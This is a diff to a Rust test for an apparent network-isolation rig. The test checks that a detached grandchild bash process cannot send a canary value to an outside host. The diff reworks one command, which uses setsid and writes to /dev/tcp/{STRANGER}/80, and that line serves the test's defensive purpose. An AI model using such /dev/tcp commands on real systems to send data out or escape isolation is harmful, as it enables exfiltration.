@@ -109,8 +109,7 @@ fn e07_a_name_cannot_be_looked_up() {
 #[test]
 fn e07_a_grandchild_reaches_nobody() {
     in_rig(|rig| {
-        let script =
-            format!("(setsid bash -c 'echo {CANARY} > /dev/tcp/{STRANGER}/80') ; wait; exit $?");
+        let script = format!("setsid --wait bash -c 'echo {CANARY} > /dev/tcp/{STRANGER}/80'");
         is_kept(rig, "bash", &["-c", &script]);
     });
 }
